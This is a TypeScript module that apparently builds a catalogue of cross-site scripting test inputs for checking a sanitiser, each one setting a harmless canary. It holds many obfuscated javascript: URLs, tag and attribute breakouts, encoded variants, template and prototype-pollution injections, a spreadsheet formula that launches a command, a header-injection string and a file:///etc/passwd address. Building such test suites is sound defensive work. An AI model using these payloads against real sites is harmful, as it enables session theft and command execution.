import { evenly } from './turns.ts';

/** What a payload sets when it runs. */
const CANARY = 'window.__canary=1';

/** Every form of a script that is tried, each once. */
export function allPayloads(): readonly string[] {
  return [...new Set(kinds().flat())];
}

/** A few of each kind, the plainest first among them. */
export function fewPayloads(ofEachKind: number): readonly string[] {
  return kinds().flatMap((list) => evenly(list, ofEachKind));
}

function kinds(): readonly (readonly string[])[] {
  return [addresses(), brokenOutElements(), brokenOutAttributes(), SCRIPT_TEXTS];
}

const CODE = encodeURIComponent(CANARY);
const BASE64 = Buffer.from(`<script>${CANARY}</script>`).toString('base64');

/** Each with what a browser runs or loads when it is followed. */
function addresses(): readonly string[] {
  const schemes = [
    ...[
      'javascript:',
      'JaVaScRiPt:',
      'java\tscript:',
      'java\nscript:',
      'java\rscript:',
      'java\0script:',
      ' javascript:',
    ],
    ...['\u0001javascript:', '\u001fjavascript:', '\u00a0javascript:', '\u200bjavascript:', '\ufeffjavascript:'],
    ...['java\u00adscript:', 'java\u200dscript:', 'java\u2028script:', 'j\u2060avascript:', '\u202ejavascript:'],
    ...['java&Tab;script:', 'java&NewLine;script:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript&#58;'],
    ...[
      '&#0000106avascript:',
      '&#x000006a;avascript:',
      '&#106avascript&#0058',
      'javascript&#x3A;',
      '&amp;#106;avascript:',
    ],
    ...['%6aavascript:', 'javascript%3a', '%0ajavascript:', 'javascript\\:', 'java\\script:', '\\u006aavascript:'],
    ...['feed:javascript:', 'view-source:javascript:', 'jar:javascript:', 'url:javascript:', 'https:javascript:'],
    ...['vbscript:', 'livescript:', 'mocha:', 'ｊavascript:', 'javascript：', 'ʝavascript:', 'javaſcript:'],
    ...[
      'javascript://%0a',
      'javascript://host/%0a',
      'javascript:/*x*/',
      'javascript:void(0);',
      'javascript:javascript:',
    ],
  ];
  return [
    ...schemes.flatMap((scheme) => [scheme + CANARY, `${scheme}${CODE}//`]),
    `data:text/html,<script>parent.${CANARY}</script>`,
    `DATA:text/html;base64,${BASE64}`,
    `data:;base64,${BASE64}`,
    `da\tta:text/html;charset=utf-7,+ADw-script+AD4-${CANARY}+ADw-/script+AD4-`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CANARY}'/>`,
    `data:text/javascript,${CANARY}`,
    'blob:http://localhost/1',
    'filesystem:http://localhost/temporary/x',
    'file:///etc/passwd',
    '//stranger.invalid/x.js',
    '/\\stranger.invalid/x.js',
    '\\\\stranger.invalid\\x',
    '/\t/stranger.invalid/x.js',
    'https://bank.example@stranger.invalid/',
    'https://bank.example%2f@stranger.invalid/',
    'https://stranger.invalid\\@bank.example/',
    '../../_data/blog',
  ];
}

function brokenOutElements(): readonly string[] {
  const breaks = [
    ...['', '">', "'>", '`>', '"/><', '</title>', '</textarea>', '</script>', '</ScRiPt\n>', '</style>', '</noscript>'],
    ...['-->', ']]>', '<!--', '</svg>', '\\">', '&quot;>', '</a></p>', '\u2028', '%22%3E'],
  ];
  const elements = [
    `<script>${CANARY}</script>`,
    `<ScRiPt/x>${CANARY}</sCrIpT>`,
    `<scr<script>ipt>${CANARY}</scr</script>ipt>`,
    `<script src=//stranger.invalid/x.js></script>`,
    `<script type=module>${CANARY}</script>`,
    `<img src=x onerror=${CANARY}>`,
    `<img/src="x"/onerror="${CANARY}">`,
    `<image href=x onerror=${CANARY}>`,
    `<svg onload=${CANARY}>`,
    `<svg><script>${CANARY}</script></svg>`,
    `<svg><script href="data:,${CANARY}"/></svg>`,
    `<svg><animate onbegin=${CANARY} attributeName=x dur=1s>`,
    `<svg><a><set attributeName=href to="javascript:${CANARY}"/><text>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${CANARY}</script>"/></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;">`,
    `<iframe srcdoc="<script>parent.${CANARY}</script>"></iframe>`,
    `<iframe src="javascript:parent.${CANARY}"></iframe>`,
    `<body onload=${CANARY}>`,
    `<details open ontoggle=${CANARY}><summary>x</summary></details>`,
    `<input autofocus onfocus=${CANARY}>`,
    `<video><source onerror=${CANARY}></video>`,
    `<audio src=x onerror=${CANARY}>`,
    `<object data="javascript:${CANARY}"></object>`,
    `<embed src="data:text/html,<script>${CANARY}</script>">`,
    `<meta http-equiv=refresh content="0;url=javascript:${CANARY}">`,
    `<base href="javascript:${CANARY}//">`,
    `<form action="javascript:${CANARY}"><button>x</button></form>`,
    `<button form=x formaction="javascript:${CANARY}">x</button>`,
    `<link rel=stylesheet href="//stranger.invalid/x.css">`,
    `<style>@import "//stranger.invalid/x.css"</style>`,
    `<template><script>${CANARY}</script></template>`,
    `<a href="javascript:${CANARY}" id=location name=cookie>x</a>`,
    `<x onclick=${CANARY} style=position:fixed;inset:0 tabindex=1>x</x>`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${CANARY}</x:script>`,
    `<![CDATA[<script>${CANARY}</script>]]>`,
  ];
  const whole = breaks.flatMap((end) => elements.map((element) => end + element));
  const disguised = elements
    .slice(0, 6)
    .flatMap((element) => [
      element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      element.replaceAll('<', '&amp;lt;'),
      element.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
      element.replaceAll('<', '\\x3c'),
      element.replaceAll('<', '＜').replaceAll('>', '＞'),
      element.replaceAll('<', '&#60;'),
      element.replaceAll('<', '&#x3c'),
      encodeURIComponent(element),
      encodeURIComponent(encodeURIComponent(element)),
      element.replaceAll('<', '%uff1c'),
      element.replaceAll('<', '\u00bc'),
      element.replaceAll('<', '<\0'),
    ]);
  return [...whole, ...disguised];
}

function brokenOutAttributes(): readonly string[] {
  const quotes = ['"', "'", '`', '&quot;', '&#34;', '&#39;', '\\"', '\u201c', '" "', '%22', '""', '"\n'];
  const handlers = ['onmouseover', 'onfocus', 'onerror', 'ONLOAD', 'onpointerenter'];
  return quotes.flatMap((quote) => [
    ...handlers.map((name) => `x${quote} ${name}=${CANARY} autofocus tabindex=1 x=${quote}`),
    `x${quote} style=${quote}background:url(javascript:${CANARY})`,
    `x${quote} srcdoc=${quote}<script>${CANARY}</script>`,
    `x${quote} href=${quote}javascript:${CANARY}`,
  ]);
}

/** What leaves a text, a template or an object of a script. */
const SCRIPT_TEXTS: readonly string[] = [
  ...['"', "'", '`', '\\', '\\"', "\\'"].flatMap((quote) => [
    `${quote};${CANARY};//`,
    `${quote}-(${CANARY})-${quote}`,
    `${quote}}];${CANARY}//`,
  ]),
  `\u2028${CANARY}\u2029`,
  `</script><script>${CANARY}</script>`,
  `<!--<script>${CANARY}</script>`,
  `{"@type":"x","url":"javascript:${CANARY}"}</script><svg/onload=${CANARY}>`,
  `\${${CANARY}}`,
  `{{constructor.constructor('${CANARY}')()}}`,
  `{{{${CANARY}}}}`,
  `<%=${CANARY}%>`,
  `#{${CANARY}}`,
  `__proto__[innerHTML]=<img src=x onerror=${CANARY}>`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CANARY}>"}}}`,
  `{"$$typeof":"react.element","type":"script","props":{"children":"${CANARY}"}}`,
  `= cmd|' /C calc'!A0 ${CANARY}`,
  `\r\nset-cookie: canary=1\r\n\r\n<script>${CANARY}</script>`,
  `\u001b]8;;javascript:${CANARY}\u0007x\u001b]8;;\u0007`,
];
